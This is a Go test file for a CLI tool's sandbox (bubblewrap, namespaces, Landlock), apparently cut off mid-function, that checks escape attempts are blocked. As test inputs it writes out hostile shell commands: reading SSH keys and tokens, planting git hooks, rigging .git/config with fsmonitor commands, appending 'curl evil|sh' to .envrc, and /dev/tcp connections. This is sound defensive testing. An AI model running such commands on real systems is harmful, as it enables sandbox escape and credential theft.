package sandbox

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/nb-cli/nb/internal/host"
	"github.com/nb-cli/nb/internal/host/hosttest"
	"github.com/nb-cli/nb/internal/host/sandbox/enter"
	"github.com/nb-cli/nb/internal/testenv"
)

func TestMain(m *testing.M) {
	if handled, code := probeMain(os.Args[1:]); handled {
		os.Exit(code)
	}
	goleak.VerifyTestMain(m)
}

// world is a fake machine layout for escape tests: a workspace, a
// directory outside it and a home with secrets. It lives under /var/tmp so
// that it is visible (read-only) inside bubblewrap's private /tmp.
type world struct {
	root, ws, outside, home string
}

func newWorld(t *testing.T) world {
	t.Helper()
	parent := "/var/tmp"
	if _, err := os.Stat(parent); err != nil {
		parent = ""
	}
	root, err := os.MkdirTemp(parent, "nb-sandbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(root) })
	w := world{root: root, ws: filepath.Join(root, "ws"), outside: filepath.Join(root, "outside"), home: filepath.Join(root, "home")}
	for _, d := range []string{filepath.Join(w.ws, "sub"), w.outside, filepath.Join(w.home, ".ssh"), filepath.Join(w.home, ".config", "nb")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	mustWrite(t, filepath.Join(w.home, ".ssh", "id_x"), "SECRET-KEY-MATERIAL")
	mustWrite(t, filepath.Join(w.home, ".config", "nb", "config.json"), "SECRET-CONFIG")
	mustWrite(t, filepath.Join(w.outside, "readme"), "public")
	mustWrite(t, filepath.Join(w.ws, "main.txt"), "hello")
	return w
}

func mustWrite(t *testing.T, p, s string) {
	t.Helper()
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

func mechanisms(t *testing.T) []string {
	var out []string
	if err := new(Host).checkView(Options{}); err == nil {
		out = append(out, MechanismNamespaces)
	} else {
		t.Logf("namespaces variant skipped: %v", err)
	}
	if _, err := findBwrap("", checkCache{}); err == nil {
		out = append(out, MechanismBwrap)
	} else {
		t.Logf("bubblewrap variant skipped: %v", err)
	}
	if err := enter.LandlockCheck(false); err == nil {
		out = append(out, MechanismLandlock)
	} else {
		t.Logf("landlock variant skipped: %v", err)
	}
	if len(out) == 0 {
		testenv.Missing(t, "no sandbox mechanism works here (install bubblewrap)")
	}
	return out
}

// mechanismLandlockPlain is Landlock without the helper's namespaces, as
// where user namespaces are disabled (a test-only mechanism name).
const mechanismLandlockPlain = "landlock-plain"

// withPlain adds the Landlock variant without namespaces when Landlock
// works here.
func withPlain(mechs []string) []string {
	if slices.Contains(mechs, MechanismLandlock) {
		return append(mechs, mechanismLandlockPlain)
	}
	return mechs
}

func newHost(t *testing.T, w world, mech string, network bool) *Host {
	t.Helper()
	o := Options{
		Mechanism: mech, LaunchDir: w.ws, Home: w.home,
		Hidden:       []string{filepath.Join(w.home, ".config", "nb")},
		AllowNetwork: network,
		Quarantine:   filepath.Join(w.root, "state", "quarantine"),
	}
	if mech == mechanismLandlockPlain {
		o.Mechanism, o.noNamespaces = MechanismLandlock, true
	}
	h, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	if mech == MechanismLandlock {
		requireNamespaces(t, h)
	}
	t.Cleanup(func() { _ = h.Close() })
	return h
}

// sh runs script in the sandbox through Host.Run, in dir.
func sh(t *testing.T, h *Host, dir, script string) (stdout, stderr string, code int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	var o, e bytes.Buffer
	ex, err := h.Run(ctx, &host.Command{Script: script, Dir: dir, Stdout: &o, Stderr: &e, Timeout: 15 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	return o.String(), e.String(), ex.Code
}

func noFile(t *testing.T, p string) {
	t.Helper()
	if _, err := os.Lstat(p); err == nil {
		t.Errorf("%s exists: the sandbox let it be created", p)
	}
}

func TestEscapes(t *testing.T) {
	for _, mech := range withPlain(mechanisms(t)) {
		t.Run(mech, func(t *testing.T) {
			w := newWorld(t)
			h := newHost(t, w, mech, false)
			if h.Mechanism() != strings.TrimSuffix(mech, "-plain") {
				t.Fatalf("mechanism %s, want %s", h.Mechanism(), mech)
			}

			t.Run("control", func(t *testing.T) {
				out, errs, code := sh(t, h, w.ws, "echo made > sub/made.txt && mkdir -p sub/deep && echo x > sub/deep/f && cat main.txt "+w.outside+"/readme && echo tmp > $TMPDIR/t && cat $TMPDIR/t")
				if code != 0 || out != "hellopublictmp\n" {
					t.Fatalf("workspace not usable: code %d out %q err %q", code, out, errs)
				}
				if b, _ := os.ReadFile(filepath.Join(w.ws, "sub", "made.txt")); string(b) != "made\n" {
					t.Fatalf("write in workspace did not reach the disk: %q", b)
				}
				// The top of the workspace takes new entries, except
				// under Landlock without namespaces (Describe says why).
				_, errs, code = sh(t, h, w.ws, "echo top > top.txt && mkdir topdir && echo x > topdir/f && mv top.txt topdir/ && rm -r topdir")
				if top := h.mountsTmp() || h.ns; top && code != 0 {
					t.Fatalf("cannot create at the top of the workspace: %s", errs)
				} else if !top {
					if code == 0 {
						t.Fatal("created at the top of the workspace under Landlock alone")
					}
					if d := h.Describe(); !strings.Contains(d, "cannot be created directly in the workspace") || !strings.Contains(d, "because") {
						t.Errorf("Describe does not say why: %s", d)
					}
				}
				// No capability is left to the command (the helper's
				// CAP_SYS_ADMIN would let it unmount the protections).
				// The bounding set only matters to root (a user cannot
				// empty it, and then it grants nothing).
				caps := "Inh|Prm|Eff|Amb"
				if os.Getuid() == 0 {
					caps += "|Bnd"
				}
				out, _, _ = sh(t, h, w.ws, "grep -E '^Cap("+caps+"):' /proc/self/status")
				lines := strings.Split(strings.TrimSpace(out), "\n")
				if len(lines) != strings.Count(caps, "|")+1 {
					t.Errorf("capabilities: %q", out)
				}
				for _, line := range lines {
					if !strings.HasSuffix(line, "\t0000000000000000") {
						t.Errorf("capability left in the sandbox: %q", line)
					}
				}
				// The process that built the view (the namespace's
				// first) keeps its capabilities there: the command,
				// although of the same user, cannot reach its memory.
				if mech == MechanismNamespaces {
					if out, _, _ := sh(t, h, w.ws, "cat /proc/1/maps >/dev/null 2>&1 && echo maps; head -c 16 /proc/1/mem 2>/dev/null | wc -c"); out != "0\n" {
						t.Errorf("the helper's memory is readable from the sandbox: %q", out)
					}
				}
			})
			t.Run("kernel settings", func(t *testing.T) {
				// A sysctl checks its writer's user id, not a capability:
				// run by root, kernel.core_pattern would run a program
				// outside. The value written is the one it holds.
				const f = "/proc/sys/kernel/printk_ratelimit"
				_, errs, code := sh(t, h, w.ws, "v=$(cat "+f+") && echo \"$v\" > "+f)
				if code == 0 {
					t.Errorf("a kernel setting was written from the sandbox: %s", errs)
				}
			})
			t.Run("write outside", func(t *testing.T) {
				_, _, code := sh(t, h, w.ws, "echo x > "+w.outside+"/evil; mkdir "+w.outside+"/evildir; echo x >> "+w.outside+"/readme")
				if code == 0 {
					t.Error("exit 0")
				}
				noFile(t, filepath.Join(w.outside, "evil"))
				noFile(t, filepath.Join(w.outside, "evildir"))
				if b, _ := os.ReadFile(filepath.Join(w.outside, "readme")); string(b) != "public" {
					t.Errorf("outside file changed: %q", b)
				}
			})
			t.Run("read secrets", func(t *testing.T) {
				out, _, _ := sh(t, h, w.ws, "cat "+w.home+"/.ssh/id_x; cat "+w.home+"/.config/nb/config.json; cp "+w.home+"/.ssh/id_x stolen")
				if strings.Contains(out, "SECRET") {
					t.Errorf("secret read: %q", out)
				}
				noFile(t, filepath.Join(w.ws, "stolen"))
			})
			t.Run("hidden stays closed", func(t *testing.T) {
				// Neither the hidden directory's mode nor what it holds
				// can be changed from inside: a cover is sealed.
				ssh := filepath.Join(w.home, ".ssh")
				before, err := os.Stat(ssh)
				if err != nil {
					t.Fatal(err)
				}
				if strings.HasPrefix(mech, MechanismLandlock) {
					// Landlock does not govern a file's mode: with the
					// workspace writable no filter can refuse chmod
					// (the README says so); the read-only profile's does.
					t.Skip("Landlock's workspace profile leaves modes outside the workspace changeable")
				}
				out, _, _ := sh(t, h, w.ws, "chmod 0777 "+ssh+" 2>/dev/null; echo x > "+ssh+"/planted 2>/dev/null && echo planted; ls -a "+ssh+" 2>/dev/null")
				if strings.Contains(out, "planted") || strings.Contains(out, "id_x") {
					t.Errorf("hidden directory opened: %q", out)
				}
				if after, err := os.Stat(ssh); err != nil || after.Mode() != before.Mode() {
					t.Errorf("hidden directory's mode changed on the host: %v → %v (%v)", before.Mode(), after.Mode(), err)
				}
			})
			t.Run("plant hooks", func(t *testing.T) {
				_ = os.Remove(filepath.Join(w.ws, ".git")) // an empty mount point left by bubblewrap
				if err := os.Mkdir(filepath.Join(w.ws, ".git"), 0o755); err != nil {
					t.Fatal(err)
				}
				defer os.RemoveAll(filepath.Join(w.ws, ".git"))
				mustWrite(t, filepath.Join(w.ws, ".git", "HEAD"), "ref: refs/heads/main\n")
				_, _, code := sh(t, h, w.ws, "mkdir -p .git/hooks; echo '[core]' >> .git/config; echo evil > .git/hooks/pre-commit")
				if code == 0 {
					t.Error("exit 0")
				}
				noFile(t, filepath.Join(w.ws, ".git", "hooks", "pre-commit"))
				if b, err := os.ReadFile(filepath.Join(w.ws, ".git", "config")); err == nil && len(b) > 0 {
					t.Errorf(".git/config written: %q", b)
				}
				// Renaming .git away to build a new one must fail too.
				sh(t, h, w.ws, "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
				noFile(t, filepath.Join(w.ws, ".git-old"))
				noFile(t, filepath.Join(w.ws, ".git", "hooks", "pre-commit"))
			})
			t.Run("plant submodule hook", func(t *testing.T) {
				w := newWorld(t)
				mod := filepath.Join(w.ws, ".git", "modules", "lib")
				if err := os.MkdirAll(filepath.Join(mod, "hooks"), 0o755); err != nil {
					t.Fatal(err)
				}
				mustWrite(t, filepath.Join(mod, "HEAD"), "ref: refs/heads/main\n")
				mustWrite(t, filepath.Join(mod, "config"), "[core]\n")
				h := newHost(t, w, mech, false)
				sh(t, h, w.ws, "echo evil > .git/modules/lib/hooks/post-checkout; echo '[core] hooksPath=/x' >> .git/modules/lib/config")
				noFile(t, filepath.Join(mod, "hooks", "post-checkout"))
				if b, _ := os.ReadFile(filepath.Join(mod, "config")); string(b) != "[core]\n" {
					t.Errorf("submodule config written: %q", b)
				}
			})
			t.Run("plant repository", func(t *testing.T) {
				sh(t, h, w.ws, "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
				noFile(t, filepath.Join(w.ws, ".git", "hooks", "pre-commit"))
			})
			t.Run("symlink out", func(t *testing.T) {
				if err := os.Symlink(w.outside, filepath.Join(w.ws, "link")); err != nil {
					t.Fatal(err)
				}
				defer os.Remove(filepath.Join(w.ws, "link"))
				sh(t, h, w.ws, "echo x > link/evil; ln -s "+w.home+"/.ssh/id_x key; cat key link/../home/.ssh/id_x")
				noFile(t, filepath.Join(w.outside, "evil"))
			})
			t.Run("terminal session", func(t *testing.T) {
				ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
				defer cancel()
				term, err := h.StartPTY(ctx, &host.PTYCommand{Script: "echo x > " + w.outside + "/pty-evil; cat " + w.home + "/.ssh/id_x; echo done", Dir: w.ws})
				if err != nil {
					t.Fatal(err)
				}
				defer term.Close()
				out, _ := io.ReadAll(term)
				<-term.Done()
				if !strings.Contains(string(out), "done") || strings.Contains(string(out), "SECRET") {
					t.Errorf("terminal output %q", out)
				}
				noFile(t, filepath.Join(w.outside, "pty-evil"))
			})
			t.Run("unix socket", func(t *testing.T) {
				if _, err := os.Stat("/usr/bin/curl"); err != nil {
					testenv.Missing(t, "needs /usr/bin/curl as a unix-socket client")
				}
				// Landlock leaves visible sockets reachable by path: nb's
				// filter refuses unix sockets. bubblewrap hides them with
				// private /tmp and /run.
				dir := w.root
				if mech == MechanismBwrap {
					dir = t.TempDir()
				}
				refusesUnixSocket(t, h, w.ws, filepath.Join(dir, "agent.sock"))
			})
			t.Run("network off", func(t *testing.T) {
				ln, err := net.Listen("tcp", "127.0.0.1:0")
				if err != nil {
					t.Fatal(err)
				}
				defer ln.Close()
				port := ln.Addr().(*net.TCPAddr).Port
				accepted := make(chan struct{}, 1)
				go func() {
					if c, err := ln.Accept(); err == nil {
						accepted <- struct{}{}
						c.Close()
					}
				}()
				_, errs, code := sh(t, h, w.ws, fmt.Sprintf("exec bash -c 'echo hi > /dev/tcp/127.0.0.1/%d'", port))
				if code == 0 {
					t.Errorf("connect succeeded: %q", errs)
				}
				select {
				case <-accepted:
					t.Error("the listener accepted a connection from the sandbox")
				case <-time.After(200 * time.Millisecond):
				}
			})
		})
	}
}

func TestNetworkAllowed(t *testing.T) {
	for _, mech := range mechanisms(t) {
		t.Run(mech, func(t *testing.T) {
			w := newWorld(t)
			h := newHost(t, w, mech, true)
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			got := make(chan string, 1)
			go func() {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				defer c.Close()
				b := make([]byte, 16)
				n, _ := c.Read(b)
				got <- string(b[:n])
			}()
			port := ln.Addr().(*net.TCPAddr).Port
			_, errs, code := sh(t, h, w.ws, fmt.Sprintf("exec bash -c 'echo hi > /dev/tcp/127.0.0.1/%d'", port))
			if code != 0 {
				t.Fatalf("connect failed with network allowed: %s", errs)
			}
			select {
			case s := <-got:
				if s != "hi\n" {
					t.Errorf("got %q", s)
				}
			case <-time.After(5 * time.Second):
				t.Error("nothing received")
			}
		})
	}
}

func TestConformance(t *testing.T) {
	for _, mech := range mechanisms(t) {
		t.Run(mech, func(t *testing.T) {
			hosttest.Run(t, func(t *testing.T, dir string) host.Host {
				h, err := New(Options{Mechanism: mech, LaunchDir: dir, Home: t.TempDir()})
				if err != nil {
					t.Fatal(err)
				}
				return h
			})
		})
	}
}

func TestUnavailable(t *testing.T) {
	_, err := New(Options{Mechanism: MechanismBwrap, Bwrap: "/nonexistent/bwrap", LaunchDir: t.TempDir()})
	if !errors.Is(err, ErrUnavailable) || !strings.Contains(err.Error(), "apt install bubblewrap") {
		t.Fatalf("missing bubblewrap: %v", err)
	}
	if enter.LandlockCheck(false) == nil {
		// A binary that does not enter the sandbox must not be trusted.
		_, err = New(Options{Mechanism: MechanismLandlock, Self: "/bin/true", LaunchDir: t.TempDir()})
		if !errors.Is(err, ErrUnavailable) {
			t.Fatalf("helper not wired: %v", err)
		}
	}
}

func TestSandboxedAndCleanup(t *testing.T) {
	for _, mech := range mechanisms(t) {
		t.Run(mech, func(t *testing.T) {
			w := newWorld(t)
			h := newHost(t, w, mech, false)
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			var errb bytes.Buffer
			ex, err := h.Run(ctx, &host.Command{Script: "echo x > " + w.outside + "/f", Dir: w.ws, Stderr: &errb})
			if err != nil {
				t.Fatal(err)
			}
			if !ex.Sandboxed || ex.Code == 0 || errb.Len() == 0 {
				t.Fatalf("denied write: %+v, stderr %q", ex, errb.String())
			}
			out := h.Unsandboxed()
			defer out.Close()
			if ex, err := out.Run(ctx, &host.Command{Script: "echo x > " + w.outside + "/f", Dir: w.ws}); err != nil || ex.Code != 0 || out.Isolation() != host.IsolationNone {
				t.Fatalf("re-run outside: %+v %v", ex, err)
			}
			ex, err = h.Run(ctx, &host.Command{Script: "echo fine > sub/f; exit 3", Dir: w.ws})
			if err != nil || ex.Sandboxed || ex.Code != 3 {
				t.Fatalf("plain failure reported as sandboxed: %+v %v", ex, err)
			}
			if err := h.Close(); err != nil {
				t.Fatal(err)
			}
			noFile(t, filepath.Join(w.ws, ".git"))
		})
	}
}

func TestBwrapArgsOrder(t *testing.T) {
	w := newWorld(t)
	l := NewLayout(w.ws, w.home, nil, nil, false)
	tmpW, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil || !strings.HasPrefix(tmpW, "/tmp/") {
		t.Skipf("temporary directory not under /tmp: %s", tmpW)
	}
	l.Writable = append(l.Writable, tmpW)
	plan := bwrapArgs(l, bwrapFiles{emptyDir: "/E", emptyFile: "/F", deniedFile: "/D"}, true, nil)
	s := strings.Join(plan.Args, " ")
	for _, want := range []string{
		"--unshare-all --die-with-parent --new-session --ro-bind / / --dev /dev --proc /proc --ro-bind /proc/sys /proc/sys --tmpfs /tmp",
		"--perms 0000 --tmpfs " + w.home + "/.ssh",
		"--bind " + w.ws + " " + w.ws,
		"--ro-bind /E " + w.ws + "/.git",
		"--cap-drop ALL --setenv TMPDIR /tmp",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("args lack %q:\n%s", want, s)
		}
	}
	if strings.Index(s, "--tmpfs /tmp ") > strings.Index(s, "--bind "+tmpW) {
		t.Errorf("a writable path under /tmp is mounted before the private /tmp:\n%s", s)
	}
	if strings.Contains(s, "--share-net") {
		t.Error("network shared")
	}
	if len(plan.Created) != 2 || plan.Created[0] != w.ws+"/.git" {
		t.Errorf("created %v", plan.Created)
	}
}

func benchRun(b *testing.B, h host.Host, dir string) {
	ctx := context.Background()
	for b.Loop() {
		ex, err := h.Run(ctx, &host.Command{Script: "true", Dir: dir})
		if err != nil || ex.Code != 0 {
			b.Fatalf("%+v %v", ex, err)
		}
	}
}

// BenchmarkRun measures a run_cmd on each mechanism; the sandbox's
// overhead is the difference from local (target: under 15 ms).
func BenchmarkRun(b *testing.B) {
	dir := b.TempDir()
	b.Run("local", func(b *testing.B) {
		l := &host.Local{}
		defer l.Close()
		benchRun(b, l, dir)
	})
	for _, mech := range []string{MechanismNamespaces, MechanismBwrap, MechanismLandlock} {
		b.Run(mech, func(b *testing.B) {
			h, err := New(Options{Mechanism: mech, LaunchDir: dir, Home: b.TempDir()})
			if err != nil {
				b.Skip(err)
			}
			defer h.Close()
			benchRun(b, h, dir)
		})
		b.Run("readonly-"+mech, func(b *testing.B) {
			h, err := New(Options{Mechanism: mech, LaunchDir: dir, Home: os.Getenv("HOME"), ReadOnly: true})
			if err != nil {
				b.Skip(err)
			}
			defer h.Close()
			benchRun(b, h, dir)
		})
	}
}

// BenchmarkReadOnlyLayout is the layout of one run in the read-only
// profile, for this machine's home directory and a workspace of 5,000
// files, the walks' records kept from the run before.
func BenchmarkReadOnlyLayout(b *testing.B) {
	ws := b.TempDir()
	for i := 0; i < 50; i++ {
		d := filepath.Join(ws, fmt.Sprintf("d%02d", i))
		if err := os.MkdirAll(d, 0o755); err != nil {
			b.Fatal(err)
		}
		for j := 0; j < 100; j++ {
			if err := os.WriteFile(filepath.Join(d, fmt.Sprintf("f%03d.go", j)), nil, 0o644); err != nil {
				b.Fatal(err)
			}
		}
	}
	s := newReadOnlySpec(Options{LaunchDir: ws, Home: os.Getenv("HOME")}, os.Environ(), nil)
	s.layout(ws)
	time.Sleep(racyWindow) // the files are no longer new: their directories' records are kept
	for b.Loop() {
		s.layout(ws)
	}
}

func TestEnvScrubbed(t *testing.T) {
	for _, mech := range mechanisms(t) {
		t.Run(mech, func(t *testing.T) {
			dir := t.TempDir()
			h, err := New(Options{Mechanism: mech, LaunchDir: dir, Home: t.TempDir(),
				Env: append(os.Environ(), hosttest.Canaries...), EnvPolicy: hosttest.CanaryPolicy})
			if err != nil {
				t.Fatal(err)
			}
			defer h.Close()
			hosttest.EnvScrubbed(t, h, dir, true)
			// The re-run outside the sandbox gets the same environment.
			outside := h.Unsandboxed()
			defer outside.Close()
			out := hosttest.Exec(t, context.Background(), outside, host.Command{Script: "env", Dir: dir, Timeout: 15 * time.Second})
			hosttest.CheckScrubbed(t, "outside", out.Stdout)
		})
	}
}

// gitRun runs real git outside any sandbox, with a clean configuration
// and none of nb's overrides, as the user's own shell would.
func gitRun(t *testing.T, w world, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + w.home, "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// escapeWorld is a repository with a submodule whose git directory lives
// in .git/modules/x, each with a commit (so git status consults
// core.fsmonitor).
func escapeWorld(t *testing.T) (w world, canary string) {
	t.Helper()
	w = newWorld(t)
	canary = filepath.Join(w.outside, "CANARY")
	gitRun(t, w, w.ws, "init", "-q")
	gitRun(t, w, w.ws, "add", "main.txt")
	gitRun(t, w, w.ws, "commit", "-qm", "init")
	x := filepath.Join(w.ws, "x")
	if err := os.MkdirAll(x, 0o755); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(x, "f"), "f")
	gitRun(t, w, x, "init", "-q")
	gitRun(t, w, x, "add", "f")
	gitRun(t, w, x, "commit", "-qm", "x")
	mods := filepath.Join(w.ws, ".git", "modules")
	if err := os.MkdirAll(mods, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(x, ".git"), filepath.Join(mods, "x")); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(x, ".git"), "gitdir: ../.git/modules/x\n")
	gitRun(t, w, w.ws, "config", "-f", filepath.Join(mods, "x", "config"), "core.worktree", "../../../x")
	// A tracked configuration file the repository includes, and a hooks
	// directory in the tree.
	mustWrite(t, filepath.Join(w.ws, "inc.cfg"), "[x]\n\ta = 1\n")
	gitRun(t, w, w.ws, "config", "include.path", "../inc.cfg")
	if err := os.MkdirAll(filepath.Join(w.ws, "tools", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	gitRun(t, w, w.ws, "config", "core.hooksPath", "tools/hooks")
	return w, canary
}

// escapeSetup builds, in the writable workspace, a configuration and a
// repository whose configuration run a program (core.fsmonitor).
func escapeSetup(canary string) string {
	fsm := `printf '[core]\n\tfsmonitor = "touch ` + canary + `"\n'`
	return "mkdir -p evil && " + fsm + " > evil/config; git init -q evilrepo && cp evil/config evilrepo/.git/config"
}

// escapeExec are the ways through .git that make the user's next git
// status run a program; escapeWrite more writes that must fail.
var (
	escapeExec = []string{
		`echo "$PWD/evilrepo/.git" > .git/commondir`,
		`printf '[include]\n\tpath = %s/evil/config\n' "$PWD" >> .git/config`,
		"cp evil/config .git/config.new && mv -f .git/config.new .git/config",
		"cat evil/config >> .git/modules/x/config",
		"echo 'gitdir: ../evilrepo/.git' > x/.git",
		"cat evil/config >> inc.cfg",
	}
	escapeWrite = []string{
		"mkdir -p .git/info && echo '* filter=evil diff=evil' > .git/info/attributes",
		`echo "$PWD/evilrepo/.git/objects" > .git/objects/info/alternates`,
		"echo evil > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
		"echo evil > tools/hooks/post-checkout && chmod +x tools/hooks/post-checkout",
		"mv .git .git-old",
		"rm -rf .git",
	}
)

// TestGitEscapeThenRealGitStatus: a command in the sandbox tries to rig
// the repository; afterwards the user's own git status (real git, outside)
// must run nothing. Control runs of each way unsandboxed show it works.
func TestGitEscapeThenRealGitStatus(t *testing.T) {
	testenv.Tool(t, "git")
	status := func(w world) {
		gitRun(t, w, w.ws, "status")
		gitRun(t, w, filepath.Join(w.ws, "x"), "status")
	}
	t.Run("control", func(t *testing.T) {
		for _, attack := range escapeExec {
			w, canary := escapeWorld(t)
			l := &host.Local{}
			r := hosttest.Exec(t, context.Background(), l, host.Command{Script: escapeSetup(canary) + "; " + attack, Dir: w.ws, Timeout: 15 * time.Second})
			l.Close()
			status(w)
			if _, err := os.Stat(canary); err != nil {
				t.Errorf("%s does not work unsandboxed, so the test proves nothing: %s%s", attack, r.Stdout, r.Stderr)
			}
		}
	})
	payload := func(canary string) string {
		// Protections that are mounts must not come off first.
		unmount := "umount -l .git/config; umount -l .git; umount -l inc.cfg; umount -l x/.git"
		return escapeSetup(canary) + "; " + unmount + "; " + strings.Join(append(append([]string{}, escapeExec...), escapeWrite...), "; ")
	}
	for _, mech := range withPlain(mechanisms(t)) {
		t.Run(mech, func(t *testing.T) {
			w, canary := escapeWorld(t)
			h := newHost(t, w, mech, false)
			gitFiles := func() map[string]string {
				m := map[string]string{}
				filepath.WalkDir(filepath.Join(w.ws, ".git"), func(p string, d os.DirEntry, err error) error {
					if err == nil && !d.IsDir() {
						b, _ := os.ReadFile(p)
						m[p] = string(b)
					}
					return nil
				})
				for _, f := range []string{"x/.git", "inc.cfg", "tools/hooks/post-checkout"} {
					if b, err := os.ReadFile(filepath.Join(w.ws, f)); err == nil {
						m[f] = string(b)
					}
				}
				return m
			}
			before := gitFiles()
			sh(t, h, w.ws, payload(canary))
			after := gitFiles()
			for p, v := range after {
				if before[p] != v {
					t.Errorf("%s changed or appeared in the sandbox: %q", p, v)
				}
			}
			for p := range before {
				if _, ok := after[p]; !ok {
					t.Errorf("%s removed in the sandbox", p)
				}
			}
			status(w)
			if _, err := os.Stat(canary); err == nil {
				t.Fatal("git status outside the sandbox ran a program planted from inside it")
			}
		})
	}
}

// Files that run outside the sandbox later are read-only inside it, and
// the hidden list is the policy's secret list.
func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
	for _, mech := range withPlain(mechanisms(t)) {
		t.Run(mech, func(t *testing.T) {
			w := newWorld(t)
			mustWrite(t, filepath.Join(w.ws, ".envrc"), "export A=1\n")
			if err := os.MkdirAll(filepath.Join(w.ws, ".vscode"), 0o755); err != nil {
				t.Fatal(err)
			}
			mustWrite(t, filepath.Join(w.ws, ".vscode", "settings.json"), "{}")
			for _, p := range []string{".config/gh", ".local/share"} {
				if err := os.MkdirAll(filepath.Join(w.home, p), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			mustWrite(t, filepath.Join(w.home, ".config", "gh", "hosts.yml"), "oauth_token: SECRET-GH")
			mustWrite(t, filepath.Join(w.home, ".vault-token"), "SECRET-VAULT")
			// A protected entry that links elsewhere in the workspace.
			mustWrite(t, filepath.Join(w.ws, "sub", "envrc.real"), "export B=1\n")
			if err := os.Symlink("envrc.real", filepath.Join(w.ws, "sub", ".envrc")); err != nil {
				t.Fatal(err)
			}
			h := newHost(t, w, mech, false)
			// Created after the host: protected from the next run on.
			if err := os.MkdirAll(filepath.Join(w.ws, "sub", ".husky"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.MkdirAll(filepath.Join(w.ws, "sub", "lib", ".git"), 0o755); err != nil {
				t.Fatal(err)
			}
			sh(t, h, w.ws, "echo 'curl evil|sh' >> .envrc; echo '{\"x\":1}' > .vscode/settings.json; echo t > .vscode/tasks.json; "+
				"echo evil > sub/.husky/pre-commit; echo x > sub/lib/.git/config; rm -f .envrc; echo evil >> sub/.envrc; echo evil >> sub/envrc.real; true")
			if b, _ := os.ReadFile(filepath.Join(w.ws, "sub", "envrc.real")); string(b) != "export B=1\n" {
				t.Errorf("the target of a protected link was written: %q", b)
			}
			if b, _ := os.ReadFile(filepath.Join(w.ws, ".envrc")); string(b) != "export A=1\n" {
				t.Errorf(".envrc: %q", b)
			}
			if b, _ := os.ReadFile(filepath.Join(w.ws, ".vscode", "settings.json")); string(b) != "{}" {
				t.Errorf("settings.json: %q", b)
			}
			noFile(t, filepath.Join(w.ws, ".vscode", "tasks.json"))
			noFile(t, filepath.Join(w.ws, "sub", ".husky", "pre-commit"))
			noFile(t, filepath.Join(w.ws, "sub", "lib", ".git", "config"))
			out, _, _ := sh(t, h, w.ws, "cat ~/.config/gh/hosts.yml ~/.vault-token "+w.home+"/.config/gh/hosts.yml "+w.home+"/.vault-token 2>/dev/null; true")
			if strings.Contains(out, "SECRET") {
				t.Errorf("secret read in the sandbox: %q", out)
			}
			// Elsewhere the workspace stays writable.
			if err := os.MkdirAll(filepath.Join(w.ws, "other"), 0o755); err != nil {
				t.Fatal(err)
			}
			if _, _, code := sh(t, h, w.ws, "echo ok > other/new.txt && mkdir -p other/d/e && echo ok > other/d/e/f"); code != 0 {
				t.Error("other/ not writable")
			}
		})
	}
}

// The hidden list is the policy's secret list, patterns included.
func TestLayoutHidesSecretList(t *testing.T) {
	home := t.TempDir()
	mustWrite(t, filepath.Join(home, ".foo_hist"), "x")
	old := DefaultHidden
	DefaultHidden = append(append([]string{}, old...), ".*_hist")
	defer func() { DefaultHidden = old }()
	l := NewLayout(t.TempDir(), home, nil, nil, false)
	for _, want := range []string{".foo_hist", ".ssh", ".config/gh", ".vault-token", ".npmrc", ".bash_history"} {
		p := resolve(filepath.Join(home, want))
		found := false
		for _, h := range l.Hidden {
			found = found || h == p
		}
		if !found {
			t.Errorf("%s not hidden", want)
		}
	}
}

// Where user namespaces are refused (run inside bubblewrap with
// --disable-userns, as user.max_user_namespaces=0 does), the Landlock
// sandbox still protects .git with Landlock alone, the top of the
// workspace takes no new entries, and the description says why.
func TestLandlockWithoutUserNamespaces(t *testing.T) {
	if enter.LandlockCheck(false) != nil {
		t.Skip("landlock is not usable here")
	}
	if os.Getenv("NB_TEST_NO_USERNS") == "" {
		bw, err := findBwrap("", checkCache{})
		if err != nil {
			testenv.Missing(t, "bubblewrap is needed to refuse user namespaces: "+err.Error())
		}
		d := t.TempDir()
		cmd := exec.Command(bw, "--unshare-user", "--disable-userns", "--die-with-parent", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--bind", d, d, "--bind", "/var/tmp", "/var/tmp",
			"--", os.Args[0], "-test.run=^TestLandlockWithoutUserNamespaces$", "-test.v", "-test.count=1")
		cmd.Env = append(os.Environ(), "NB_TEST_NO_USERNS=1", "TMPDIR="+d)
		out, err := cmd.CombinedOutput()
		if err != nil || !strings.Contains(string(out), "--- PASS: TestLandlockWithoutUserNamespaces") {
			t.Fatalf("inner run: %v\n%s", err, out)
		}
		return
	}
